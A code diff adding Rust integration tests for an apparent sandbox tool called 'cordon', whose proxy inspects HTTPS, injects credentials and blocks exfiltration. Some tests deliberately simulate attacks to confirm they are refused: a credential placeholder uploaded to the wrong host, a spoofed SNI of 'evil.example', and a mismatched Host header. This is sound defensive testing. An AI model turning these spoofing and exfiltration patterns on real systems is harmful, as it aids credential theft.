+        // A 2 MB upload carrying the placeholder to the wrong host: refused.
+        let upload = out.stdout.split("== upload").nth(1).unwrap_or_default();
+        assert!(upload.contains("HTTP/1.1 403"), "{mode:?}: {upload}");
+        assert!(!other.seen().contains("cordon-placeholder-"), "{mode:?}");
+        assert!(
+            audit_text(&log).contains("attempted exfiltration"),
+            "{mode:?}"
+        );
+        // A compressed answer to a request that carried the real value
+        // cannot be masked: refused. Without a real value, it goes through.
+        let part = |name: &str| {
+            out.stdout
+                .split(&format!("== {name}\n"))
+                .nth(1)
+                .and_then(|p| p.split("\n== ").next())
+                .unwrap_or_default()
+                .to_string()
+        };
+        let with = part("gzip-with-secret");
+        assert!(with.contains("HTTP/1.1 502"), "{mode:?}: {with}");
+        assert!(with.contains("compressed"), "{mode:?}: {with}");
+        let without = part("gzip-without");
+        assert!(without.contains("HTTP/1.1 200"), "{mode:?}: {without}");
+        assert!(
+            without.contains("content-encoding: gzip"),
+            "{mode:?}: {without}"
+        );
+    });
+}
+
+/// A benchmark, not a check: per-request latency and throughput of an
+/// inspected HTTPS host against an opaque tunnel to the same kind of
+/// upstream, in one sandbox run (run with
+/// `cargo test --release --test credentials -- --ignored --nocapture bench`).
+#[test]
+#[ignore]
+fn bench_inspected_against_opaque() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let inspected = Upstream::start(&ca);
+    let opaque = Upstream::start(&ca);
+    let fx = Fixture::new(modes()[0]);
+    let ca_file = fx.outside.join("upstream-ca.pem");
+    write(&ca_file, &ca.pem(), fx.mode);
+    // The opaque client loads a bundle as large as the inspected one (the
+    // system roots plus one CA): OpenSSL's parse of it is most of a
+    // handshake's cost.
+    let system = std::fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap_or_default();
+    let fair = fx.outside.join("system-plus-upstream-ca.pem");
+    write(&fair, &format!("{system}\n{}", ca.pem()), fx.mode);
+    let n = 200;
+    let timed = |port: u16, cacert: &str| {
+        format!(
+            "for i in 1 2 3; do curl -s -o /dev/null -w 'connect %{{time_connect}} tls %{{time_appconnect}} first-byte %{{time_starttransfer}} total %{{time_total}}\\n' --noproxy '' -x http://127.0.0.1:3128 {cacert} https://127.0.0.1:{port}/bytes/100; curl --http1.1 -s -o /dev/null -w 'h1: connect %{{time_connect}} tls %{{time_appconnect}} first-byte %{{time_starttransfer}} total %{{time_total}}\\n' --noproxy '' -x http://127.0.0.1:3128 {cacert} https://127.0.0.1:{port}/bytes/100; done\n\
+             for i in $(seq {n}); do curl -s -o /dev/null -w '%{{time_total}}\\n' --noproxy '' -x http://127.0.0.1:3128 {cacert} https://127.0.0.1:{port}/bytes/100; done | sort -n | awk '{{a[NR]=$1}} END {{print \"median\", a[int(NR/2)+1]*1000, \"ms p90\", a[int(NR*0.9)]*1000, \"ms\"}}'\n\
+             curl -s -o /dev/null -w 'throughput %{{speed_download}} B/s\\n' --noproxy '' -x http://127.0.0.1:3128 {cacert} https://127.0.0.1:{port}/bytes/268435456\n"
+        )
+    };
+    let script = format!(
+        "echo '== inspected'\n{}echo '== opaque'\n{}",
+        timed(inspected.port, ""),
+        timed(opaque.port, &format!("--cacert {}", fair.display())),
+    );
+    let out = fx
+        .sandbox()
+        .arg("--audit")
+        .arg("none")
+        .arg("--allow-domain")
+        .arg("127.0.0.1")
+        .arg("--ports")
+        .arg(format!("{},{}", inspected.port, opaque.port))
+        .arg("--inspect")
+        .arg(format!("127.0.0.1:{}", inspected.port))
+        .arg("--upstream-ca")
+        .arg(&ca_file)
+        .timeout(std::time::Duration::from_secs(600))
+        .sh(&script);
+    eprintln!("{}{}", out.stdout, out.stderr);
+}
+
+#[test]
+fn an_upstream_that_closes_ends_the_client_connection_cleanly() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let up = Upstream::start(&ca);
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let ca_file = fx.outside.join("upstream-ca.pem");
+        write(&ca_file, &ca.pem(), mode);
+        // One kept-alive HTTP/1.1 connection: the upstream closes after the
+        // second request; the third must still work (on a new connection).
+        let script = format!(
+            "import http.client, ssl\n\
+             c = http.client.HTTPSConnection('127.0.0.1', 3128, context=ssl.create_default_context())\n\
+             c.set_tunnel('127.0.0.1', {port})\n\
+             for path in ['/one', '/close', '/three']:\n\
+             \x20   c.request('GET', path)\n\
+             \x20   r = c.getresponse()\n\
+             \x20   print(path, r.status, r.read().split(b' ')[1].decode())\n",
+            port = up.port
+        );
+        let out = fx
+            .sandbox()
+            .arg("--audit")
+            .arg("none")
+            .arg("--allow-domain")
+            .arg(format!("127.0.0.1:{}", up.port))
+            .arg("--inspect")
+            .arg("127.0.0.1")
+            .arg("--upstream-ca")
+            .arg(&ca_file)
+            .py(&script);
+        out.ok();
+        for line in ["/one 200 /one", "/close 200 /close", "/three 200 /three"] {
+            assert!(out.stdout.contains(line), "{mode:?}: {out:#?}");
+        }
+    });
+}
+
+#[test]
+fn sni_and_host_must_name_the_connect_host() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let up = Upstream::start(&ca);
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let ca_file = fx.outside.join("upstream-ca.pem");
+        write(&ca_file, &ca.pem(), mode);
+        let log = fx.outside.join("audit.jsonl");
+        let script = format!(
+            "import socket, ssl\n\
+             s = socket.create_connection(('127.0.0.1', 3128))\n\
+             s.sendall(b'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n')\n\
+             print('connect:', s.recv(100).split(b'\\r\\n')[0].decode())\n\
+             ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n\
+             try:\n\
+             \x20   ctx.wrap_socket(s, server_hostname='evil.example'); print('sni: accepted')\n\
+             except (OSError, ssl.SSLError) as e:\n\
+             \x20   print('sni: refused')\n\
+             p = socket.create_connection(('127.0.0.1', 3128))\n\
+             p.sendall(b'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n')\n\
+             p.recv(100)\n\
+             p.sendall(b'GET /plain HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n')\n\
+             print('plaintext:', b''.join(iter(lambda: p.recv(1000), b'')).decode().replace('\\r\\n', ' '))\n",
+            port = up.port
+        );
+        let out = fx
+            .sandbox()
+            .env("SNI", &script)
+            .arg("--audit")
+            .arg(&log)
+            .arg("--allow-domain")
+            .arg(format!("127.0.0.1:{}", up.port))
+            .arg("--inspect")
+            .arg("127.0.0.1")
+            .arg("--upstream-ca")
+            .arg(&ca_file)
+            .sh(&format!(
+                "{PY} -c \"$SNI\"\necho '== host'\n{}\n",
+                curl(up.port, "/x", "--http1.1 -H 'Host: other.example'")
+            ));
+        assert!(
+            out.stdout.contains("connect: HTTP/1.1 200"),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(out.stdout.contains("sni: refused"), "{mode:?}: {out:#?}");
+        assert!(
+            out.stdout.contains("plaintext: HTTP/1.1 403") && out.stdout.contains("only TLS"),
+            "{mode:?}: {out:#?}"
+        );
+        let host = out.stdout.split("== host").nth(1).unwrap_or_default();
+        assert!(host.contains("HTTP/1.1 403"), "{mode:?}: {out:#?}");
+        assert!(host.contains("names another host"), "{mode:?}: {out:#?}");
+        assert!(!up.seen().contains("/x"), "{mode:?}: {}", up.seen());
+        assert!(!up.seen().contains("/plain"), "{mode:?}: {}", up.seen());
+        let text = audit_text(&log);
+        assert!(text.contains("SNI mismatch"), "{mode:?}: {text}");
+        assert!(text.contains("Host header mismatch"), "{mode:?}: {text}");
+    });
+}
+
+#[test]
+fn a_secret_or_ca_that_cannot_be_read_refuses_to_run() {
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let policy = fx.outside.join("policy.toml");
+        write(
+            &policy,
+            "[[credentials.inject]]\nenv = \"CORDON_TEST_UNSET_TOKEN\"\nhosts = [\"api.example\"]\n",
+            mode,
+        );
+        let marker = fx.project.join("ran");
+        let cmd = format!("touch {}", marker.display());
+        let out = fx.sandbox().arg("--policy").arg(&policy).sh(&cmd);
+        out.expect_code(125);
+        assert!(
+            out.stderr.contains("credentials door")
+                && out.stderr.contains("CORDON_TEST_UNSET_TOKEN")
+                && out.stderr.contains("not set"),
+            "{mode:?}: {out:#?}"
+        );
+        let out = fx
+            .sandbox()
+            .arg("--inspect")
+            .arg("*")
+            .arg("--upstream-ca")
+            .arg(fx.outside.join("missing.pem"))
+            .sh(&cmd);
+        out.expect_code(125);
+        assert!(out.stderr.contains("missing.pem"), "{mode:?}: {out:#?}");
+        assert!(!marker.exists(), "{mode:?}: the command ran");
+    });
+}
+
+#[test]
+fn upgraded_connections_are_relayed_through_inspection() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let up = Upstream::start(&ca);
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let ca_file = fx.outside.join("upstream-ca.pem");
+        write(&ca_file, &ca.pem(), mode);
+        let script = format!(
+            "import socket, ssl\n\
+             s = socket.create_connection(('127.0.0.1', 3128))\n\
+             s.sendall(b'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n')\n\
+             s.recv(100)\n\
+             t = ssl.create_default_context().wrap_socket(s, server_hostname='127.0.0.1')\n\
+             t.sendall(b'GET /ws HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nConnection: Upgrade\\r\\nUpgrade: echo\\r\\n\\r\\n')\n\
+             head = b''\n\
+             while not head.endswith(b'\\r\\n\\r\\n'): head += t.recv(1)\n\
+             print('status:', head.split(b'\\r\\n')[0].decode())\n\
+             t.sendall(b'ping-pong')\n\
+             print('echo:', t.recv(100).decode())\n",
+            port = up.port
+        );
+        let out = fx
+            .sandbox()
+            .arg("--audit")
+            .arg("none")
+            .arg("--allow-domain")
+            .arg(format!("127.0.0.1:{}", up.port))
+            .arg("--inspect")
+            .arg("127.0.0.1")
+            .arg("--upstream-ca")
+            .arg(&ca_file)
+            .py(&script);
+        out.ok();
+        assert!(
+            out.stdout.contains("status: HTTP/1.1 101"),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(out.stdout.contains("echo: ping-pong"), "{mode:?}: {out:#?}");
+    });
+}
